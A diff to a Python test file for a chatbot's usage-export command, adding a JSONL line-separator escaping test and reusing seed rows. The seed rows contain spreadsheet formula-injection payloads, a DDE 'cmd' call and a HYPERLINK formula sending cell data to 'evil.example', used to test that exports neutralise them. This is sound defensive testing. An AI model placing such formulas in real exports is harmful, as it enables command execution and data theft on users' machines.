@@ -21,8 +21,16 @@ from bot.types import ChannelConfig, KeyScope, UsageRecord
 from bot.types.usage import USAGE_COLUMNS
 from tests.e2e.test_cli import chatbot
 
+ROWS = [
+    (1, "u1", "gpt-4o"),
+    (2, "u2", 'odd "model", with, commas'),
+    (3, "u1", "claude-x"),
+    (4, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    (5, "@alice:example.org", "-2+3"),
+]
 
-def seed(tmp_path: Path) -> None:
+
+def seed(tmp_path: Path, rows: list[tuple[int, str, str]] = ROWS) -> None:
     (tmp_path / "data").mkdir(exist_ok=True)
     url = f"sqlite+aiosqlite:///{tmp_path}/data/bot.db"
 
@@ -32,13 +40,7 @@ def seed(tmp_path: Path) -> None:
             url, SecretBox.from_setting(generate_key()), defaults=ChannelConfig.of()
         )
         try:
-            for day, user, model in [
-                (1, "u1", "gpt-4o"),
-                (2, "u2", 'odd "model", with, commas'),
-                (3, "u1", "claude-x"),
-                (4, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
-                (5, "@alice:example.org", "-2+3"),
-            ]:
+            for day, user, model in rows:
                 await store.record_usage(
                     UsageRecord(
                         at=datetime(2026, 11, day, 8, 30, tzinfo=UTC),
@@ -88,6 +90,18 @@ def test_jsonl_export(tmp_path: Path) -> None:
     ]
     assert lines[3]["user_id"] == "=cmd|' /C calc'!A0"  # JSON is data: kept as it was
     assert lines[1]["estimated"] is True and lines[0]["error"] is False
+
+
+def test_jsonl_keeps_one_record_a_line_whatever_a_reader_splits_lines_at(
+    tmp_path: Path,
+) -> None:
+    """U+2028 and U+2029 are valid inside a JSON string, but Python's splitlines() and
+    JavaScript's older parsers break a line there: they go out escaped."""
+    seed(tmp_path, [(1, "u1", "a\u2028b\u2029c")])
+    result = chatbot(tmp_path, "usage", "export", "--since", "2026-01-01", "--format", "jsonl")
+    assert result.returncode == 0, result.stderr
+    [line] = result.stdout.splitlines()
+    assert json.loads(line)["model"] == "a\u2028b\u2029c"
 
 
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
